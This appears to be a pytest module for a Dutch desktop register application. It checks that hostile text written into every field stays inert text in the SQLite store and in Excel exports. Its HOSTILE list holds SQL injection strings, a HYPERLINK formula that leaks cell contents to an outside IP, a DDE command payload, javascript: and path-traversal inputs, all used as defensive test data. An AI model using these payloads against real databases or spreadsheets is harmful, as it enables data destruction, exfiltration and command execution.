"""Hostile text in every text field: it stays text in the store, on the screen and in Excel."""

import shutil
import sqlite3
from collections.abc import Iterator
from contextlib import closing
from datetime import date
from pathlib import Path
from typing import TYPE_CHECKING

import openpyxl
import pytest

from novex_desktop import paths
from novex_desktop.domain.progress_note import NoteData
from novex_desktop.exporting.export_job import ExportOrder, export_overview
from novex_desktop.exporting.layout_files import list_layouts
from novex_desktop.importing.apply import apply_plan
from novex_desktop.importing.prepare import prepare_import
from novex_desktop.store.checking import check_register
from novex_desktop.store.database import Database
from novex_desktop.store.operations.agreements import update_agreement
from novex_desktop.store.operations.notes import add_note
from novex_desktop.store.queries.dump import dump_register
from novex_desktop.store.queries.history import list_history
from tests.store.fault_rounds import count_rounds

if TYPE_CHECKING:
    from novex_desktop.store.database import StoreSetup

HOSTILE = (
    "'); DROP TABLE agreement; --",
    '" OR 1=1; DELETE FROM change WHERE "1"="1',
    '=HYPERLINK("http://192.0.2.1/?x="&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "+31 70 123",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "#REF!",
    "{number} %s ${x} <b>vet</b> &amp; ]]>",
    "a_x0041_b",
    "javascript:alert(1)",
    "../../etc/passwd",
    "[Blad]'!:*?/\\",
)
LAYOUTS = [layout.name for layout in list_layouts([paths.get_shipped_layouts_folder()])]
FILES = sorted((Path(__file__).parent / "data" / "hostile").glob("lees-*"))


@pytest.fixture(scope="module")
def hostile_template(
    filled_template: Path, store_setup: "StoreSetup", tmp_path_factory: pytest.TempPathFactory
) -> Path:
    """Return the list of 2024 with hostile text wherever somebody can write text.

    What no operation writes, as names of regions and adopted texts, is written past the program,
    and the log then says the same: as if it were so from the beginning.
    """
    path = Path(shutil.copyfile(filled_template, tmp_path_factory.mktemp("kwaad") / "kwaad.novex"))
    database = Database.open(path, store_setup)
    with database.read() as connection:
        ids = [row[0] for row in connection.execute("SELECT id FROM agreement ORDER BY number")]
    with database.change("Vijandig") as act:
        for place, agreement_id in enumerate(ids):
            text = HOSTILE[place % len(HOSTILE)]
            fields = {"title": text, "erratum": text, "judgement_reason": text}
            update_agreement(act.session, agreement_id, fields)
            add_note(act.session, agreement_id, NoteData(dated=date(2025, 3, 1), text=text), text)
        from novex_desktop.domain.tables import REGISTER_TABLES

        for name, column in (
            ("region", "name"), ("party", "name"), ("party", "short"), ("topic", "title"),
            ("topic", "lead_in"), ("meeting", "series"), ("area", "name"), ("due", "words"),
            ("amount", "quote"), ("document_reference", "quote"), ("document_reference", "name"),
            ("agreement", "adopted_text"),
        ):  # fmt: skip
            table = REGISTER_TABLES[name]
            from sqlmodel import select

            for place, row in enumerate(act.session.exec(select(table)).all()):
                setattr(row, column, f"{HOSTILE[place % len(HOSTILE)]} {place}"[:200])
    database.close()
    return path


@pytest.fixture
def hostile(
    hostile_template: Path, store_setup: "StoreSetup", tmp_path: Path
) -> Iterator[Database]:
    path = Path(shutil.copyfile(hostile_template, tmp_path / "kwaad.novex"))
    database = Database.open(path, store_setup)
    yield database
    database.close()


def test_sql_in_every_text_field_is_stored_and_read_as_text(hostile: Database) -> None:
    with hostile.read() as connection:
        assert all(one.is_sound for one in check_register(connection))
        titles = {row[0] for row in connection.execute("SELECT title FROM agreement")}
        ids = [row[0] for row in connection.execute("SELECT id FROM agreement")]
        dump_register(connection, date(2025, 3, 1))
        for agreement_id in ids[: len(HOSTILE)]:
            assert list_history(connection, agreement_id)
    assert titles == {text.strip() for text in HOSTILE} or titles == set(HOSTILE)
    hostile.undo()


@pytest.mark.parametrize("name", LAYOUTS[:: count_rounds(4, 1)])
def test_no_overview_has_a_formula_link_or_property_that_acts(
    hostile: Database, tmp_path: Path, name: str
) -> None:
    [layout] = [
        one for one in list_layouts([paths.get_shipped_layouts_folder()]) if one.name == name
    ]
    order = ExportOrder(
        layout=layout, target=tmp_path / "a.xlsx", as_of=date(2025, 3, 1), classification="=1+1"
    )
    export_overview(hostile, order)
    book = openpyxl.load_workbook(tmp_path / "a.xlsx")
    own = openpyxl.load_workbook(_export_plain(tmp_path, layout, order))
    formulas = {
        (cell.value, cell.number_format)
        for sheet in own
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    }
    for sheet in book:
        assert len(sheet.title) <= 31
        assert not set("[]:*?/\\") & set(sheet.title)
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    # Only formulas that the program itself writes: sums and links within the book.
                    assert any(_is_same_kind(cell.value, known) for known, _ in formulas), (
                        cell.value
                    )
                if cell.hyperlink is not None:
                    assert not cell.hyperlink.target
    # A property is never computed; it must only hold the text as it is.
    assert book.properties.keywords in (None, "", "=1+1")


def _export_plain(tmp_path: Path, layout: object, order: ExportOrder) -> Path:
    """Write the same overview of the list as it is, to see which formulas are the program's."""
    from dataclasses import replace

    from novex_desktop.store_setup import make_store_setup

    path = tmp_path / "gewoon.novex"
    database = Database.create(path, make_store_setup())
    (starter,) = paths.get_starter_folder().glob("*.txt")
    apply_plan(database, prepare_import(database, starter))
    target = tmp_path / "gewoon.xlsx"
    export_overview(database, replace(order, target=target))
    database.close()
    return target


def _is_same_kind(value: object, known: object) -> bool:
    """Tell whether two formulas differ in their addresses only."""
    import re

    return re.sub(r"\d+", "9", str(value)) == re.sub(r"\d+", "9", str(known))


@pytest.mark.parametrize("file", FILES, ids=lambda path: path.name)
def test_a_hostile_list_is_taken_in_and_goes_out_as_text(
    file: Path, register_path: Path, store_setup: "StoreSetup", tmp_path: Path
) -> None:
    database = Database.open(register_path, store_setup)
    plan = prepare_import(database, file, series="BO Leefomgeving", year=2024)
    apply_plan(database, plan)
    [layout] = [
        one
        for one in list_layouts([paths.get_shipped_layouts_folder()])
        if one.name == "Afspraken per regio"
    ]
    order = ExportOrder(layout=layout, target=tmp_path / "a.xlsx", as_of=date(2025, 3, 1))
    export_overview(database, order)
    with database.read() as connection:
        assert all(one.is_sound for one in check_register(connection))
    database.close()
    with closing(sqlite3.connect(register_path)) as connection:
        texts = [row[0] for row in connection.execute("SELECT adopted_text FROM agreement")]
    assert not any("\u202e" in text or "\u2066" in text for text in texts)
    book = openpyxl.load_workbook(tmp_path / "a.xlsx")
    shown = [
        str(cell.value)
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "s"
    ]
    assert all(any(text in one for one in shown) for text in texts)
